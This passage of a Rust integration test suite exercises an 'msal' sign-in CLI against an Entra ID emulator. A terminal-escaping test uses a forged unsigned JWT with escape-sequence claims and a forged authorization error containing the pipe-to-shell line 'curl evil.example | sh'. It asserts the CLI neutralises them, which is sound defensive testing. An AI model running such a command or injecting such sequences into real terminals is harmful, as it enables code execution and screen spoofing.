    assert!(started, "the CLI never started a device-code flow");
    let killed = StdCommand::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(5), "{}", stderr(&output));
    assert!(stderr(&output).contains("cancelled"), "{}", stderr(&output));
}

/// A private D-Bus session bus with the emulator's broker service on it (auto-approving alice),
/// or `None` (skipped) when dbus-daemon is missing outside CI.
fn broker_bus(f: &Fixture) -> Option<(PrivateSessionBus, BrokerService)> {
    let bus = match PrivateSessionBus::start() {
        Ok(bus) => bus,
        Err(e) if std::env::var("CI").as_deref() == Ok("true") => {
            panic!("CI=true and no private D-Bus session bus: {e}")
        }
        Err(e) => {
            eprintln!("SKIPPED: no private D-Bus session bus ({e})");
            return None;
        }
    };
    let options = BrokerOptions {
        auto_approve: Some("alice@contoso.example".into()),
        ..Default::default()
    };
    let service = f
        .runtime
        .block_on(f.emulator.serve_broker(bus.address(), options))
        .unwrap();
    Some((bus, service))
}

#[test]
fn broker_login_token_doctor_and_logout_through_the_session_bus() {
    let f = fixture();
    let Some((bus, _service)) = broker_bus(&f) else {
        return;
    };
    let with_bus = |cmd: &mut Command| {
        cmd.env("DBUS_SESSION_BUS_ADDRESS", bus.address());
    };
    let mut doctor = f.msal();
    with_bus(&mut doctor);
    let doctor = run(doctor.args(["doctor", "-o", "json"]));
    let report = stdout_json(&doctor);
    let broker = report
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["title"] == "Broker")
        .unwrap();
    assert!(
        broker["values"]["availability"]
            .as_str()
            .unwrap()
            .starts_with("available"),
        "{broker}"
    );
    assert_eq!(
        broker["values"]["redirect URI (Linux)"],
        "https://login.microsoftonline.com/common/oauth2/nativeclient"
    );

    let mut login = f.msal();
    with_bus(&mut login);
    let login = run(login.args(["login", "--broker", "-s", USER_SCOPE]));
    assert!(login.status.success(), "{}", stderr(&login));
    assert!(String::from_utf8_lossy(&login.stdout).contains("alice@contoso.example"));

    let mut token = f.msal();
    with_bus(&mut token);
    let token = stdout_json(&run(token.args(["token", "--broker", "-s", USER_SCOPE])));
    assert_eq!(token["source"], "cache", "{token}");
    let accounts = stdout_json(&run(f.msal().args(["accounts", "-o", "json"])));
    assert_eq!(accounts[0]["account_source"], "broker", "{accounts}");

    // Without --broker, the broker's account has no refresh token here: the hint says so.
    let no_broker = run(f
        .msal()
        .args(["token", "--force-refresh", "-s", USER_SCOPE]));
    assert_eq!(code(&no_broker), 4, "{}", stderr(&no_broker));
    assert!(
        stderr(&no_broker).contains("add --broker"),
        "{}",
        stderr(&no_broker)
    );
    let status = stdout_json(&run(f.msal().args(["status", "-o", "json"])));
    assert_eq!(status["accounts"][0]["refresh_token"], false, "{status}");

    // `broker = true` in the config file does what --broker does.
    let mut config = f.msal();
    config.args(["config", "set", "broker", "true"]);
    assert!(run(&mut config).status.success());
    let mut token = f.msal();
    with_bus(&mut token);
    let token = run(token.args(["token", "--force-refresh", "-s", USER_SCOPE]));
    assert!(token.status.success(), "{}", stderr(&token));
    assert_eq!(stdout_json(&token)["source"], "broker");

    let mut logout = f.msal();
    with_bus(&mut logout);
    let logout = run(logout.args(["logout", "--broker", "--all"]));
    assert!(logout.status.success(), "{}", stderr(&logout));
    assert!(
        !f.emulator
            .control()
            .broker_signed_in()
            .iter()
            .any(|s| s.username == "alice@contoso.example" && s.client_id == f.public_client_id()),
        "the broker still has alice signed in"
    );
}

#[test]
fn broker_login_says_once_when_it_falls_back_to_the_browser() {
    // No broker on this bus address: `login --broker` prints one line on stderr, then uses the
    // browser (a failing MSAL_BROWSER and a short timeout end the sign-in quickly).
    let f = fixture();
    let out = run(f
        .msal()
        .env(
            "DBUS_SESSION_BUS_ADDRESS",
            "unix:path=/nonexistent/entra-msal-test-bus",
        )
        .env("MSAL_BROWSER", "false")
        .args(["login", "--broker", "--timeout", "2", "-s", USER_SCOPE]));
    let err = stderr(&out);
    let lines: Vec<&str> = err
        .lines()
        .filter(|l| l.contains("signing in through the browser"))
        .collect();
    assert_eq!(lines.len(), 1, "{err}");
    assert!(
        lines[0].starts_with("msal: the authentication broker is not used ("),
        "{err}"
    );
}

#[test]
fn managed_identity_token_like_az_login_identity() {
    let f = fixture();
    let server = f
        .runtime
        .block_on(
            f.emulator
                .start_managed_identity(ManagedIdentityConfig::default()),
        )
        .unwrap();
    let out = run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .envs(server.environment("app_service"))
        .args([
            "token",
            "--managed-identity",
            "-s",
            "https://management.azure.com/.default",
            "-o",
            "az",
        ]));
    assert!(out.status.success(), "{}", stderr(&out));
    let az = stdout_json(&out);
    assert!(
        az["accessToken"].as_str().unwrap().starts_with("eyJ"),
        "{az}"
    );

    let two = run(f.msal().envs(server.environment("app_service")).args([
        "token",
        "--managed-identity",
        "--resource-id",
        "/x",
        "--object-id",
        "y",
        "-s",
        "https://management.azure.com/.default",
    ]));
    assert_eq!(code(&two), 2, "{}", stderr(&two));
    let no_source = run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .env("MSAL_CACHE_FILE", f.dir.path().join("mi-empty-cache.json"))
        .env("IDENTITY_ENDPOINT", "not a url")
        .env("IDENTITY_HEADER", "h")
        .args([
            "token",
            "--managed-identity",
            "-s",
            "https://management.azure.com/.default",
        ]));
    assert_ne!(code(&no_source), 0);
    assert!(
        stderr(&no_source).contains("next:"),
        "{}",
        stderr(&no_source)
    );
}

#[test]
fn a_cached_token_needs_no_discovery_request() {
    let f = fixture();
    f.login_alice();
    let discovery = || {
        f.emulator
            .control()
            .requests()
            .iter()
            .filter(|r| r.path.contains("openid-configuration"))
            .count()
    };
    let all = || f.emulator.control().requests().len();
    let before = discovery();
    let out = run(f.msal().args(["token", "-s", USER_SCOPE, "-o", "token"]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        discovery(),
        before,
        "a fresh process answered from its cache without discovery"
    );
    // Not a single request of any kind, also with the discovery file beside the cache.
    let before = all();
    let out = run(f.msal().args(["token", "-s", USER_SCOPE, "-o", "token"]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(all(), before, "no request at all for a cached token");
}

/// `--log-file`: the trace goes to the file (owner-only), not to standard error, and names
/// neither the token nor the user.
#[test]
fn log_file_gets_the_trace_without_the_token_or_the_username() {
    let f = fixture();
    f.login_alice();
    let log = f.dir.path().join("msal.log");
    let out = run(f
        .msal()
        .args(["token", "-s", USER_SCOPE, "--output", "token", "--log-file"])
        .arg(&log));
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let token = String::from_utf8(out.stdout.clone()).unwrap();
    let token = token.trim();
    assert!(token.len() > 100);
    assert!(stderr(&out).is_empty(), "{}", stderr(&out));
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.contains("token found in the cache"), "{text}");
    assert!(text.contains("TRACE") || text.contains("DEBUG"), "{text}");
    assert!(!text.contains(token));
    assert!(!text.contains(token.split('.').nth(2).unwrap()));
    assert!(!text.to_lowercase().contains("alice@contoso.example"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::metadata(&log).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    let bad = run(f
        .msal()
        .args(["token", "-s", USER_SCOPE, "--log-file"])
        .arg(f.dir.path().join("no-such-dir").join("msal.log")));
    assert_ne!(code(&bad), 0);
    assert!(
        stderr(&bad).contains("cannot open the log file"),
        "{}",
        stderr(&bad)
    );
}

// ---- First use (issue 20): never hang, say the next step, work without an app registration.

/// `msal` with no browser and no display: the fixture's environment less every variable that
/// could open a browser.
fn headless(f: &Fixture) -> Command {
    let mut cmd = f.msal();
    for var in [
        "DISPLAY",
        "WAYLAND_DISPLAY",
        "SSH_CONNECTION",
        "SSH_TTY",
        "WSL_DISTRO_NAME",
        "WSL_INTEROP",
        "NO_COLOR",
    ] {
        cmd.env_remove(var);
    }
    cmd
}

/// Runs `command` (a shell command line) under `script`, on a pseudo-terminal, with `input`
/// typed once `ready` appears in its output; `act` runs meanwhile (e.g. approving a device
/// code). Returns the exit code and everything the terminal showed.
fn on_terminal(
    f: &Fixture,
    envs: &[(&str, String)],
    command: &str,
    input: Option<(&str, &str)>,
    act: &dyn Fn() -> bool,
) -> (i32, String) {
    let log = f.dir.path().join(format!(
        "tty-{}.log",
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    ));
    let mut cmd = StdCommand::new("script");
    cmd.args(["-qfec", command])
        .arg(&log)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    for var in [
        "DISPLAY",
        "WAYLAND_DISPLAY",
        "SSH_CONNECTION",
        "SSH_TTY",
        "BROWSER",
        "MSAL_BROWSER",
        "MSAL_PASSWORD",
        "MSAL_CLIENT_SECRET",
        "NO_COLOR",
        "RUST_LOG",
        "MSAL_LOG_FILE",
    ] {
        cmd.env_remove(var);
    }
    for (k, v) in f.envs() {
        cmd.env(k, v);
    }
    for (k, v) in envs {
        cmd.env(k, v);
    }
    let mut child = cmd.spawn().expect("`script` (util-linux) runs");
    let mut stdin = child.stdin.take();
    let mut acted = false;
    let start = std::time::Instant::now();
    loop {
        let shown = std::fs::read_to_string(&log).unwrap_or_default();
        if let Some((ready, text)) = input
            && let Some(mut s) = stdin.take()
        {
            if shown.contains(ready) {
                use std::io::Write as _;
                s.write_all(text.as_bytes()).unwrap();
                s.flush().unwrap();
                // Keep standard input open until the end: `script` stops at its end.
                stdin = Some(s);
                std::thread::sleep(Duration::from_millis(200));
                break;
            }
            stdin = Some(s);
        } else if input.is_none() {
            break;
        }
        assert!(
            start.elapsed() < Duration::from_secs(30),
            "no {input:?} prompt: {shown}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    loop {
        if !acted {
            acted = act();
        }
        if let Some(status) = child.try_wait().unwrap() {
            drop(stdin);
            let shown = std::fs::read_to_string(&log).unwrap_or_default();
            return (status.code().unwrap_or(-1), shown);
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "still running: {}",
            std::fs::read_to_string(&log).unwrap_or_default()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn headless_without_a_terminal_exits_4_at_once_with_the_next_step() {
    let f = fixture();
    for (label, extra) in [
        ("no display", vec![]),
        (
            "ssh session",
            vec![
                ("DISPLAY", ":0"),
                ("SSH_CONNECTION", "10.0.0.1 5000 10.0.0.2 22"),
            ],
        ),
    ] {
        let start = std::time::Instant::now();
        let mut cmd = headless(&f);
        cmd.envs(extra).args(["token", "-s", USER_SCOPE]);
        let out = run(&mut cmd);
        let elapsed = start.elapsed();
        assert_eq!(code(&out), 4, "{label}: {}", stderr(&out));
        // "Within a second" on an idle machine; the bound leaves room for a loaded one.
        assert!(
            elapsed < Duration::from_secs(3),
            "{label}: took {elapsed:?}"
        );
        let err = stderr(&out);
        assert!(
            err.contains("no browser can be opened here because"),
            "{err}"
        );
        assert!(err.contains("msal login --device-code"), "{err}");
        assert!(!err.contains("/authorize"), "{label}: printed a URL: {err}");
        assert_eq!(err.lines().count(), 2, "{err}");
    }

    // A browser program that cannot start, and no terminal: it ends at once too.
    let start = std::time::Instant::now();
    let out = run(headless(&f)
        .env("MSAL_BROWSER", "/nonexistent/browser")
        .args(["login", "-s", USER_SCOPE]));
    assert_eq!(code(&out), 4, "{}", stderr(&out));
    assert!(start.elapsed() < Duration::from_secs(3));
    let err = stderr(&out);
    assert!(
        err.contains("no browser could be opened because MSAL_BROWSER=/nonexistent/browser could not be started"),
        "{err}"
    );
    assert!(err.contains("msal login --device-code"), "{err}");
}

#[test]
fn headless_on_a_terminal_switches_to_a_device_code() {
    let f = fixture();
    let command = format!(
        "{} login -s {}",
        shell_quote(env!("CARGO_BIN_EXE_msal")),
        USER_SCOPE
    );
    let control = f.emulator.control();
    let approve = || match control.pending_device_codes().first() {
        Some(p) => {
            control
                .approve_device_code(&p.user_code, "alice@contoso.example")
                .unwrap();
            true
        }
        None => false,
    };
    let (rc, shown) = on_terminal(&f, &[], &command, None, &approve);
    assert_eq!(rc, 0, "{shown}");
    assert!(
        shown.contains("signing in with a device code instead"),
        "{shown}"
    );
    let line = shown
        .lines()
        .find(|l| l.contains("To sign in, open"))
        .unwrap_or_else(|| panic!("no device-code line: {shown}"));
    assert!(
        line.contains("/devicelogin and enter the code \x1b[1m"),
        "{line:?}"
    );
    assert!(
        shown.contains("Signed in as alice@contoso.example"),
        "{shown}"
    );
}

#[test]
fn client_secret_prompt_on_a_terminal_hides_what_is_typed() {
    let f = fixture();
    let secret = f
        .info
        .confidential_client
        .as_ref()
        .unwrap()
        .client_secret
        .clone()
        .unwrap();
    let client_id = f
        .info
        .confidential_client
        .as_ref()
        .unwrap()
        .client_id
        .clone();
    let command = format!(
        "{} token --client-secret -s {} -o token",
        shell_quote(env!("CARGO_BIN_EXE_msal")),
        APP_SCOPE
    );
    let (rc, shown) = on_terminal(
        &f,
        &[("MSAL_CLIENT_ID", client_id.clone())],
        &command,
        Some(("Client secret for", &format!("{secret}\r"))),
        &|| true,
    );
    assert_eq!(rc, 0, "{shown}");
    assert!(
        shown.contains(&format!("Client secret for {client_id}: ")),
        "{shown}"
    );
    assert!(!shown.contains(&secret), "the secret was echoed: {shown}");
    assert!(shown.contains("eyJ"), "no token: {shown}");

    // On the command line: accepted, with one warning naming the alternatives.
    let out = run(f.msal().env("MSAL_CLIENT_ID", &client_id).args([
        "token",
        "--client-secret",
        &secret,
        "-s",
        APP_SCOPE,
        "-o",
        "token",
    ]));
    assert!(out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert_eq!(err.matches("visible to other users").count(), 1, "{err}");
    for alternative in ["MSAL_CLIENT_SECRET", "standard input", "secret.txt"] {
        assert!(err.contains(alternative), "{err}");
    }
    assert!(!err.contains(&secret));
}

/// A JWT (unsigned) with the given claims.
fn forged_token(claims: &Value) -> String {
    use base64::Engine as _;
    let b64 = |v: &Value| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(serde_json::to_vec(v).unwrap())
    };
    format!(
        "{}.{}.c2ln",
        b64(&serde_json::json!({"alg": "RS256", "typ": "JWT"})),
        b64(claims)
    )
}

fn has_terminal_controls(bytes: &[u8]) -> bool {
    let text = String::from_utf8_lossy(bytes);
    text.chars()
        .any(|c| (c.is_control() && c != '\n' && c != '\t') || ('\u{80}'..='\u{9f}').contains(&c))
}

#[test]
fn terminal_control_sequences_from_tokens_and_servers_are_written_out() {
    let f = fixture();
    let token = forged_token(&serde_json::json!({
        "name": "\u{1b}]0;pwned\u{7}Mallory\u{1b}[2J",
        "upn": "eve\u{9b}31m@example",
        "exp": 4_102_444_800i64,
    }));
    for output in ["text", "json"] {
        let out = run(f.msal().args(["decode", "-o", output, &token]));
        assert!(out.status.success(), "{}", stderr(&out));
        assert!(
            !has_terminal_controls(&out.stdout),
            "{output}: {:?}",
            String::from_utf8_lossy(&out.stdout)
        );
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(text.contains("Mallory"), "{text}");
    }
    let json = stdout_json(&run(f.msal().args(["decode", "-o", "json", &token])));
    assert_eq!(
        json["claims"]["upn"], "eve\u{9b}31m@example",
        "same JSON value"
    );

    // An authorization response forged with escape sequences (the identity provider's error
    // and error_description) reaches the terminal written out.
    let script = f.dir.path().join("forge.py");
    std::fs::write(
        &script,
        r#"import sys, urllib.parse, urllib.request
q = urllib.parse.parse_qs(urllib.parse.urlparse(sys.argv[1]).query)
body = urllib.parse.urlencode({
    "error": "access_denied\x1b[2J\x1b[H",
    "error_description": "\x1b[31mFAKE: run curl evil.example | sh\x1b[0m\x1b]0;pwned-title\x07",
    "state": q["state"][0],
}).encode()
try:
    urllib.request.urlopen(q["redirect_uri"][0], data=body, timeout=10).read()
except Exception:
    pass
"#,
    )
    .unwrap();
    let Some(python) = python() else {
        assert_ne!(
            std::env::var("CI").as_deref(),
            Ok("true"),
            "CI=true and no python3"
        );
        eprintln!("SKIPPED: the forged authorization response (no python3)");
        return;
    };
    let out = run(f
        .msal()
        .env(
            "MSAL_BROWSER",
            format!("{} {}", python.display(), script.display()),
        )
        .args(["login", "-s", USER_SCOPE]));
    assert_ne!(code(&out), 0);
    assert!(
        !has_terminal_controls(&out.stderr),
        "{:?}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = stderr(&out);
    assert!(err.contains(r"access_denied\x1b[2J"), "{err}");
    assert!(err.contains("FAKE"), "{err}");
}

#[test]
fn a_closed_pipe_ends_quietly_with_141() {
    let f = fixture();
    f.login_alice();
    let token = stdout_json(&run(f.msal().args(["token", "-s", USER_SCOPE])))["token"]
        .as_str()
        .unwrap()
        .to_string();
    for args in [
        vec!["decode", token.as_str()],
        vec!["doctor", "-o", "json"],
        vec!["token", "-s", USER_SCOPE, "-o", "token"],
        vec!["status"],
    ] {
        // The reading end is closed before msal writes anything.
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
        for (k, v) in f.envs() {
            cmd.env(k, v);
        }
        let out = cmd
            .env("RUST_BACKTRACE", "1")
            .args(&args)
            .stdout(writer)
            .stderr(Stdio::piped())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(141), "{args:?}: {}", stderr(&out));
        assert_eq!(stderr(&out), "", "{args:?}");
    }
}

#[test]
fn works_without_an_app_registration_and_status_shows_the_cache() {
    let f = fixture();
    let login = run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .args([
            "login",
            "--username",
            "alice@contoso.example",
            "-s",
            USER_SCOPE,
        ])
        .write_stdin(format!("{}\n", f.password("alice"))));
    assert!(login.status.success(), "{}", stderr(&login));

    let doctor = run(f.msal().env_remove("MSAL_CLIENT_ID").arg("doctor"));
    let text = String::from_utf8_lossy(&doctor.stdout);
    assert!(
        text.contains(
            "04b07795-8ddb-461a-bbee-02f9e1bf7b46 (default: the Azure CLI's public client"
        ),
        "{text}"
    );
    assert!(text.contains("msal config set client_id ID"), "{text}");

    let status = stdout_json(&run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .args(["status", "-o", "json"])));
    assert_eq!(status["client_id"], "04b07795-8ddb-461a-bbee-02f9e1bf7b46");
    let alice = &status["accounts"][0];
    assert_eq!(alice["username"], "alice@contoso.example", "{status}");
    assert_eq!(alice["refresh_token"], true);
    let at = &alice["access_tokens"][0];
    assert!(
        at["scopes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s == USER_SCOPE),
        "{status}"
    );
    assert_eq!(at["expired"], false);
    assert!(at["expires_on"].as_i64().unwrap() > 0);

    let text = run(f.msal().env_remove("MSAL_CLIENT_ID").arg("status"));
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("alice@contoso.example"), "{text}");
    assert!(text.contains("refresh token   yes"), "{text}");
    assert!(text.contains(USER_SCOPE), "{text}");

    let token = stdout_json(&run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .args(["token", "-s", USER_SCOPE])));
    assert_eq!(token["source"], "cache");

    let logout = stdout_json(&run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .args(["logout", "-o", "json"])));
    assert_eq!(logout["signed_out"][0]["username"], "alice@contoso.example");
    let empty = run(f.msal().env_remove("MSAL_CLIENT_ID").arg("status"));
    assert!(String::from_utf8_lossy(&empty.stdout).contains("No account is signed in"));
}

#[test]
fn hints_fit_the_error() {
    let f = fixture();
    let wrong = run(f
        .msal()
        .args([
            "login",
            "--username",
            "alice@contoso.example",
            "-s",
            USER_SCOPE,
        ])
        .write_stdin("not-the-password\n"));
    let err = stderr(&wrong);
    assert_ne!(code(&wrong), 0);
    assert!(
        err.contains("check the password of alice@contoso.example"),
        "{err}"
    );
    assert!(!err.contains("sign in again with `msal login`"), "{err}");

    let mfa_user = f
        .info
        .users
        .iter()
        .find(|u| u.mfa_required)
        .map(|u| (u.username.clone(), u.password.clone()));
    if let Some((user, password)) = mfa_user {
        let mfa = run(f
            .msal()
            .args(["login", "--username", &user, "-s", USER_SCOPE])
            .write_stdin(format!("{password}\n")));
        let err = stderr(&mfa);
        assert!(err.contains("multi-factor"), "{err}");
        assert!(err.contains("msal login --device-code"), "{err}");
    }

    let federated = run(f
        .msal()
        .args([
            "login",
            "--username",
            "carol@federated.fabrikam.example",
            "-s",
            USER_SCOPE,
        ])
        .write_stdin("whatever\n"));
    // A federated domain goes through WS-Trust; this user is unknown to the federation server.
    let err = stderr(&federated);
    assert_eq!(code(&federated), 7, "{err}");
    assert!(err.contains("federation server"), "{err}");
    assert!(err.contains("check the username and password"), "{err}");
    assert!(!err.contains("whatever"), "{err}");

    // A busy --port is told in the CLI's words, not the library's `port None`.
    let busy = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = busy.local_addr().unwrap().port().to_string();
    let taken = run(f.msal().env("MSAL_BROWSER", "true").args([
        "login",
        "-s",
        USER_SCOPE,
        "--timeout",
        "5",
        "--port",
        &port,
    ]));
    let err = stderr(&taken);
    assert_eq!(code(&taken), 3, "{err}");
    assert!(err.contains("omit --port"), "{err}");
    assert!(!err.contains("port None"), "{err}");
}

#[test]
fn config_get_set_unset_list_checks_keys_and_values() {
    let f = fixture();
    let config = f.dir.path().join("conf").join("msal.toml");
    let msal = |args: &[&str]| {
        let mut cmd = f.msal();
        cmd.env("MSAL_CONFIG", &config).args(args);
        run(&mut cmd)
    };
    let set = msal(&["config", "set", "client_id", "not-a-guid"]);
    assert_eq!(code(&set), 3);
    assert!(
        stderr(&set).contains("`client_id` must be a GUID"),
        "{}",
        stderr(&set)
    );
    let typo = msal(&["config", "set", "clientid", "x"]);
    assert_eq!(code(&typo), 3);
    assert!(
        stderr(&typo).contains("did you mean `client_id`"),
        "{}",
        stderr(&typo)
    );
    let bad_bool = msal(&["config", "set", "broker", "yes"]);
    assert!(stderr(&bad_bool).contains("`broker` must be true or false"));

    for (k, v) in [
        ("client_id", "04b07795-8ddb-461a-bbee-02f9e1bf7b46"),
        ("scopes", "User.Read Mail.Read"),
        ("broker", "false"),
        ("tenant", "contoso.onmicrosoft.com"),
    ] {
        let out = msal(&["config", "set", k, v]);
        assert!(out.status.success(), "{k}: {}", stderr(&out));
    }
    let get = msal(&["config", "get", "scopes"]);
    assert_eq!(
        String::from_utf8_lossy(&get.stdout),
        "User.Read Mail.Read\n"
    );
    let unset = msal(&["config", "unset", "tenant"]);
    assert!(unset.status.success());
    assert_eq!(msal(&["config", "get", "tenant"]).stdout, b"");
    let list = stdout_json(&msal(&["config", "list", "-o", "json"]));
    assert_eq!(list["values"]["broker"], false);
    assert_eq!(list["values"]["scopes"][1], "Mail.Read");
    assert!(list["values"].get("tenant").is_none());
    // The file is read back by every command.
    let doctor = String::from_utf8_lossy(&msal(&["doctor"]).stdout).into_owned();
    assert!(doctor.contains("default scopes"), "{doctor}");

    // A type error in the file names the key.
    std::fs::write(&config, "client_id = 42\n").unwrap();
    let bad = msal(&["accounts"]);
    assert_eq!(code(&bad), 3);
    assert!(stderr(&bad).contains("client_id"), "{}", stderr(&bad));
}

#[test]
fn kubeconfig_entry_runs_msal_token_and_kubectl_reads_it() {
    let f = fixture();
    let kubeconfig = f.dir.path().join("kubeconfig");
    std::fs::write(
        &kubeconfig,
        "apiVersion: v1\nkind: Config\nclusters:\n- name: aks-test\n  cluster:\n    server: https://127.0.0.1:6443\n- name: other\n  cluster:\n    server: https://127.0.0.1:6444\ncontexts:\n- name: aks-test\n  context:\n    cluster: aks-test\n    user: old-user\n- name: other\n  context:\n    cluster: other\n    user: old-user\ncurrent-context: aks-test\nusers:\n- name: old-user\n  user:\n    token: abc\n",
    )
    .unwrap();
    let missing = run(f.msal().args([
        "kubeconfig",
        "--cluster",
        "nope",
        "--kubeconfig",
        kubeconfig.to_str().unwrap(),
    ]));
    assert_eq!(code(&missing), 3);
    assert!(
        stderr(&missing).contains("aks-test, other"),
        "{}",
        stderr(&missing)
    );

    let out = run(f.msal().args([
        "kubeconfig",
        "--cluster",
        "aks-test",
        "--kubeconfig",
        kubeconfig.to_str().unwrap(),
        "-s",
        USER_SCOPE,
        "-o",
        "json",
    ]));
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout_json(&out)["contexts"][0], "aks-test");

    // kubectl's own reading of the file, when kubectl is here; else the YAML parsed here.
    let view = StdCommand::new("kubectl")
        .args(["config", "view", "-o", "json", "--kubeconfig"])
        .arg(&kubeconfig)
        .output();
    let config: Value = match view {
        Ok(v) if v.status.success() => serde_json::from_slice(&v.stdout).unwrap(),
        other => {
            assert_ne!(
                std::env::var("CI").as_deref(),
                Ok("true"),
                "CI=true and kubectl cannot run: {other:?}"
            );
            eprintln!("SKIPPED: kubectl config view (no kubectl); the YAML is parsed here");
            serde_norway::from_str(&std::fs::read_to_string(&kubeconfig).unwrap()).unwrap()
        }
    };
    let user = config["users"]
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["name"] == "msal-aks-test")
        .unwrap_or_else(|| panic!("{config}"));
    let exec = &user["user"]["exec"];
    assert_eq!(exec["apiVersion"], "client.authentication.k8s.io/v1");
    assert_eq!(exec["interactiveMode"], "IfAvailable");
    let args: Vec<&str> = exec["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    assert_eq!(&args[..3], ["token", "--output", "exec-credential"]);
    assert!(
        args.windows(2).any(|w| w == ["--scope", USER_SCOPE]),
        "{args:?}"
    );
    let contexts = config["contexts"].as_array().unwrap();
    let user_of = |name: &str| {
        contexts.iter().find(|c| c["name"] == name).unwrap()["context"]["user"].clone()
    };
    assert_eq!(user_of("aks-test"), "msal-aks-test");
    assert_eq!(user_of("other"), "old-user");

    // The entry works: what kubectl would run gives an ExecCredential (after a sign-in).
    f.login_alice();
    let command = exec["command"].as_str().unwrap();
    let mut plugin = Command::new(command);
    for (k, v) in f.envs() {
        plugin.env(k, v);
    }
    let credential = stdout_json(&run(plugin.args(&args).env(
        "KUBERNETES_EXEC_INFO",
        r#"{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","spec":{"interactive":false}}"#,
    )));
    assert_eq!(credential["kind"], "ExecCredential");
}

#[test]
fn workload_identity_reads_the_federated_token_file() {
    let f = fixture();
    let cert = f.info.certificate_client.as_ref().unwrap();
    let key = entra_emulator::crypto::SigningKey::from_pem(
        &std::fs::read_to_string(&cert.private_key_file).unwrap(),
    )
    .unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let audience = format!("{}/oauth2/v2.0/token", f.info.authority);
    // What a Kubernetes token issuer would sign; here the certificate client's own key (the
    // emulator checks assertions against the app's registered certificate).
    use base64::Engine as _;
    let b64 = |v: &Value| {
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(serde_json::to_vec(v).unwrap())
    };
    let signing_input = format!(
        "{}.{}",
        b64(&serde_json::json!({"alg": "RS256", "typ": "JWT"})),
        b64(&serde_json::json!({
            "iss": cert.client_id, "sub": cert.client_id, "aud": audience,
            "jti": "workload-1", "nbf": now - 10, "exp": now + 600,
        }))
    );
    let signature = key.sign_rs256(signing_input.as_bytes()).unwrap();
    let assertion = format!(
        "{signing_input}.{}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(signature)
    );
    let file = f.dir.path().join("azure-identity-token");
    std::fs::write(&file, &assertion).unwrap();
    let out = run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .env("AZURE_CLIENT_ID", &cert.client_id)
        .env("AZURE_TENANT_ID", f.info.tenant_id.as_str())
        .env("AZURE_FEDERATED_TOKEN_FILE", &file)
        .args(["token", "-s", APP_SCOPE]));
    assert!(out.status.success(), "{}", stderr(&out));
    let json = stdout_json(&out);
    assert_eq!(json["source"], "identity_provider");
    assert!(json["account"].is_null());

    let missing_client = run(f
        .msal()
        .env_remove("MSAL_CLIENT_ID")
        .env_remove("AZURE_CLIENT_ID")
        .env("AZURE_FEDERATED_TOKEN_FILE", &file)
        .args(["token", "-s", APP_SCOPE]));
    assert_eq!(code(&missing_client), 3);
    assert!(stderr(&missing_client).contains("AZURE_CLIENT_ID"));
}

#[test]
fn device_code_line_is_one_line_and_qr_is_drawn_without_colour_off_a_terminal() {
    let f = fixture();
    let mut cmd = StdCommand::new(env!("CARGO_BIN_EXE_msal"));
    for (k, v) in f.envs() {
        cmd.env(k, v);
    }
    let child = cmd
        .args(["login", "--device-code", "--qr", "-s", USER_SCOPE])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let control = f.emulator.control();
    let mut code_seen = String::new();
    for _ in 0..600 {
        if let Some(p) = control.pending_device_codes().first() {
            code_seen = p.user_code.clone();
            control
                .approve_device_code(&p.user_code, "alice@contoso.example")
                .unwrap();
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{}", stderr(&output));
    let err = stderr(&output);
    let line = err.lines().next().unwrap();
    assert!(line.starts_with("To sign in, open https://"), "{err}");
    assert!(
        line.ends_with(&format!("/devicelogin and enter the code {code_seen}")),
        "{err}"
    );
    assert!(err.contains('█') && err.contains('▀'), "no QR code: {err}");
    assert!(!err.contains('\x1b'), "styled off a terminal: {err:?}");
}

/// `msal` as a std process (to spawn, kill or run many at once), with the fixture's
/// environment and the app's secret in `MSAL_CLIENT_SECRET`.
fn msal_process(f: &Fixture) -> StdCommand {
